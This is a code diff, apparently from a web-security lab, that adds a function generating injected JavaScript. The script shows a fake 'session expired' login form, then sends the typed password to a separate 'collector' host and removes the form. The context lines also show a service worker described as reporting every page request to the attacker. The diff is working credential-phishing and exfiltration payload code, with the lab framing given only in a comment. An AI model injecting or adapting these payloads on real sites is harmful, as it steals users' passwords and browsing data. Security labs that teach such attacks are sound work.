@@ -31,6 +31,21 @@ export function installScript(): string {
   return `navigator.serviceWorker.register('/worker.js').catch(() => {})`
 }
 
+/** A login form that is none. What is typed goes to the attacker, and the lab forgets it. */
+export function phishingScript(places: Places): string {
+  return `(() => {
+const form = document.createElement('form')
+form.id = 'phish'
+form.innerHTML = '<h2>Your session has expired</h2><p><label>Password <input type="password" name="password"></label></p><button>Log in again</button>'
+form.onsubmit = (event) => {
+  event.preventDefault()
+  fetch('${originOf(places, 'collector')}/phish', { method: 'POST', mode: 'no-cors', body: form.elements.password.value })
+  form.remove()
+}
+document.querySelector('main').prepend(form)
+})()`
+}
+
 /** The service worker: from the next visit on it sees every request of the page, and tells the attacker. */
 export function workerScript(places: Places): string {
   return `self.addEventListener('install', () => self.skipWaiting())
